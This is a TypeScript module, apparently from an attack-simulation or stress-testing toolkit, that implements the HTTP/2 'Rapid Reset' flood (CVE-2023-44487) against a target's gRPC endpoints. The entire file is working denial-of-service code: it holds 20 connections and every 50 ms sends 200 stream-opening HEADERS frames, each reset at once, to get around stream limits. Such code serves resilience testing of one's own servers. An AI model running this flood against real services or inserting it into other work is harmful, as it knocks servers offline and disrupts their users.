import type { Attack } from '../attack.js';
import { holdConnections } from '../held-connections.js';
import { CALL, FLAG, frame, FRAME, PREFACE } from '../http2-frames.js';

const CONNECTIONS = 20;
const CALLS_AT_ONCE = 200;
const CANCEL = Buffer.of(0, 0, 0, 8);
const MOST_WAITING_BYTES = 1 << 20;

export const grpcRapidReset: Attack = {
  name: 'grpc-rapid-reset',
  story:
    'Calls are begun and reset at once, thousands on one connection (as CVE-2023-44487): the limit of streams never counts them.',
  door: 'grpc',
  inflict: ({ target, over }) => {
    const next = new WeakMap<object, number>();
    return holdConnections(
      {
        at: Object.values(target.grpc),
        connections: CONNECTIONS,
        reads: true,
        begin: (socket) => void socket.write(PREFACE),
        again: {
          everyMs: 50,
          do: (socket) => {
            if (socket.writableLength > MOST_WAITING_BYTES) return;
            const first = next.get(socket) ?? 1;
            next.set(socket, first + 2 * CALLS_AT_ONCE);
            const calls = Array.from({ length: CALLS_AT_ONCE }, (_, at) =>
              Buffer.concat([
                frame(FRAME.headers, FLAG.endHeaders, first + 2 * at, CALL),
                frame(FRAME.reset, 0, first + 2 * at, CANCEL),
              ]),
            );
            socket.write(Buffer.concat(calls));
          },
        },
      },
      over,
    );
  },
};
